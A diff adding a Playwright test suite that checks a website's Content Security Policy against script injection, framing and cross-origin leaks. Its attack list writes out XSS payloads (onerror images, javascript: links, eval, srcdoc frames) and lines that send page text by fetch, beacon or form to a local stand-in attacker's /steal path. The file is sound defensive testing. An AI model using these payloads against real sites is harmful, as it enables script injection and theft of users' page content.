@@ -1,0 +1,222 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { expect, type Page, test } from "@playwright/test";
+import { paths } from "#content/paths.ts";
+
+/**
+ * Ways in which markup or code that found its way into a page could run. Each runs as if the page's HTML or one of its
+ * scripts had a hole; what it tries is to set the mark, and to reach the other origin.
+ */
+const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<unknown>>> = {
+  "an inline script": (page) =>
+    page.evaluate(() => {
+      const script = document.createElement("script");
+      script.append("document.documentElement.dataset.hacked = 'yes'");
+      document.body.append(script);
+    }),
+  "a script of another origin": (page, other) =>
+    page.evaluate((url) => {
+      const script = document.createElement("script");
+      script.setAttribute("src", url);
+      document.body.append(script);
+    }, `${other}/script.js`),
+  "a script in a data: address": (page) =>
+    page.evaluate(() => {
+      const script = document.createElement("script");
+      script.setAttribute("src", "data:text/javascript,document.documentElement.dataset.hacked='yes'");
+      document.body.append(script);
+    }),
+  "an event handler in an attribute": (page) =>
+    page.evaluate(() => {
+      const button = document.createElement("button");
+      button.setAttribute("onclick", "document.documentElement.dataset.hacked = 'yes'");
+      document.body.append(button);
+      button.click();
+    }),
+  "a broken picture with a handler": (page) =>
+    page.evaluate(() => {
+      const image = document.createElement("img");
+      image.setAttribute("onerror", "document.documentElement.dataset.hacked = 'yes'");
+      image.setAttribute("src", "/nowhere.png");
+      document.body.append(image);
+    }),
+  "innerHTML": (page) =>
+    page.evaluate(() => {
+      document.body.innerHTML = "<img src=x onerror=\"document.documentElement.dataset.hacked='yes'\">";
+    }),
+  "document.write": (page) =>
+    page.evaluate(() => document.write("<script>document.documentElement.dataset.hacked='yes'</script>")),
+  "eval": (page) => page.evaluate(() => globalThis.eval("document.documentElement.dataset.hacked = 'yes'")),
+  "a function made of text": (page) =>
+    page.evaluate(() => new Function("document.documentElement.dataset.hacked = 'yes'")()),
+  "a timer made of text": (page) =>
+    page.evaluate(() => setTimeout("document.documentElement.dataset.hacked = 'yes'" as never, 0)),
+  "a javascript: address": (page) =>
+    page.evaluate(() => {
+      const link = document.createElement("a");
+      link.setAttribute("href", "javascript:void(document.documentElement.dataset.hacked = 'yes')");
+      document.body.append(link);
+      link.click();
+    }),
+  "a style attribute": (page) =>
+    page.evaluate(() => {
+      document.body.setAttribute("style", "--hacked: yes");
+      if (getComputedStyle(document.body).getPropertyValue("--hacked")) document.documentElement.dataset.hacked = "yes";
+    }),
+  "a style element": (page) =>
+    page.evaluate(() => {
+      const style = document.createElement("style");
+      style.append("body { --hacked: yes }");
+      document.head.append(style);
+      if (getComputedStyle(document.body).getPropertyValue("--hacked")) document.documentElement.dataset.hacked = "yes";
+    }),
+  "a style sheet of another origin": (page, other) => appendLink(page, "stylesheet", `${other}/style.css`),
+  "a picture of another origin": (page, other) =>
+    page.evaluate((url) => {
+      const image = document.createElement("img");
+      image.setAttribute("src", url);
+      document.body.append(image);
+    }, `${other}/pixel.png`),
+  "words fetched to another origin": (page, other) =>
+    page.evaluate((url) => fetch(url, { method: "POST", mode: "no-cors", body: document.body.innerText }), `${other}/steal`),
+  "a beacon to another origin": (page, other) =>
+    page.evaluate((url) => navigator.sendBeacon(url, document.body.innerText), `${other}/steal`),
+  "a frame of another origin": (page, other) =>
+    page.evaluate((url) => {
+      const frame = document.createElement("iframe");
+      frame.setAttribute("src", url);
+      document.body.append(frame);
+    }, `${other}/frame`),
+  "a frame with markup of its own": (page) =>
+    page.evaluate(() => {
+      const frame = document.createElement("iframe");
+      frame.setAttribute("srcdoc", "<script>parent.document.documentElement.dataset.hacked = 'yes'</script>");
+      document.body.append(frame);
+    }),
+  "an object": (page, other) =>
+    page.evaluate((url) => {
+      const object = document.createElement("object");
+      object.setAttribute("data", url);
+      document.body.append(object);
+    }, `${other}/object`),
+  "a worker": (page) =>
+    page.evaluate(() => new Worker(URL.createObjectURL(new Blob(["fetch('/')"], { type: "text/javascript" })))),
+  "a base element": (page, other) =>
+    page.evaluate((url) => {
+      const base = document.createElement("base");
+      base.setAttribute("href", url);
+      document.head.prepend(base);
+      const image = document.createElement("img");
+      image.setAttribute("src", "relative.png");
+      document.body.append(image);
+      if (document.baseURI.startsWith(url)) document.documentElement.dataset.hacked = "yes";
+    }, `${other}/`),
+  "a form to another origin": (page, other) =>
+    page.evaluate((url) => {
+      const form = document.createElement("form");
+      form.setAttribute("action", url);
+      form.setAttribute("method", "post");
+      document.body.append(form);
+      form.submit();
+    }, `${other}/steal`),
+};
+
+/** Changes of place and pop-ups are the browser's own doing and the policy's business only where it says so. */
+for (const path of [paths.home, paths.contact, paths.rfq]) {
+  for (const [name, attack] of Object.entries(attacks)) {
+    test(`${path} does not run ${name}`, async ({ page }) => {
+      const other = await startOtherOrigin();
+      const violations: string[] = [];
+      await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
+      await page.addInitScript(() => {
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+          (globalThis as unknown as { reportViolation(directive: string): void }).reportViolation(effectiveDirective),
+        );
+      });
+      await page.goto(path);
+      await attack(page, other.origin).catch(() => {});
+      await expect.poll(() => violations.length, { message: "the browser reports what it blocked" }).toBeGreaterThan(0);
+      expect(await page.evaluate(() => document.documentElement.dataset.hacked)).toBeUndefined();
+      expect(new URL(page.url()).pathname).toBe(path);
+      expect(other.requests).toEqual([]);
+      await other.close();
+    });
+  }
+
+  test(`${path} cannot be shown in a frame of another site`, async ({ page, baseURL }) => {
+    const other = await startOtherOrigin(`<iframe src="${baseURL}${path}"></iframe>`);
+    const refusal = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
+    await page.goto(other.origin);
+    await refusal;
+    const [, frame] = page.frames();
+    expect(frame?.url()).not.toContain(path === paths.home ? String(baseURL) : path);
+    await other.close();
+  });
+
+  test(`${path} opened by another site cannot be reached through its window`, async ({ page, context, baseURL }) => {
+    const other = await startOtherOrigin();
+    await page.goto(other.origin);
+    const opened = context.waitForEvent("page");
+    await page.evaluate((url) => {
+      (globalThis as unknown as { victim: Window | null }).victim = window.open(url);
+    }, `${baseURL}${path}`);
+    await (await opened).waitForLoadState();
+    await expect
+      .poll(() => page.evaluate(() => (globalThis as unknown as { victim: Window }).victim.closed))
+      .toBe(true);
+    await other.close();
+  });
+}
+
+/** The same attack on a page without a policy, so that it is known to be one: a test that cannot fail is worth nothing. */
+for (const [name, attack] of Object.entries(attacks)) {
+  test(`without the policy there would be ${name}`, async ({ page }) => {
+    const other = await startOtherOrigin();
+    const bare = await startOtherOrigin("<!doctype html><title>Bare</title><body>Words</body>");
+    await page.goto(bare.origin);
+    await attack(page, other.origin).catch(() => {});
+    await expect
+      .poll(async () => {
+        const isMarked = await page.evaluate(() => document.documentElement.dataset.hacked).catch(() => undefined);
+        const isGone = !page.url().startsWith(bare.origin);
+        return isMarked !== undefined || isGone || other.requests.length > 0 || page.workers().length > 0;
+      })
+      .toBe(true);
+    await other.close();
+    await bare.close();
+  });
+}
+
+async function appendLink(page: Page, rel: string, href: string) {
+  await page.evaluate(
+    ([relation, url]) => {
+      const link = document.createElement("link");
+      link.setAttribute("rel", String(relation));
+      link.setAttribute("href", String(url));
+      document.head.append(link);
+    },
+    [rel, href],
+  );
+}
+
+/** A site of an attacker, which notes what reaches it. */
+async function startOtherOrigin(html = "") {
+  const requests: string[] = [];
+  const server = createServer((request, response) => {
+    requests.push(`${request.method} ${request.url}`);
+    const isScript = request.url?.endsWith(".js");
+    response.setHeader("content-type", isScript ? "text/javascript" : "text/html");
+    response.setHeader("cross-origin-resource-policy", "cross-origin");
+    response.end(isScript ? "document.documentElement.dataset.hacked = 'yes'" : html);
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    origin: `http://127.0.0.1:${port}`,
+    requests,
+    close: () => {
+      server.closeAllConnections();
+      return new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
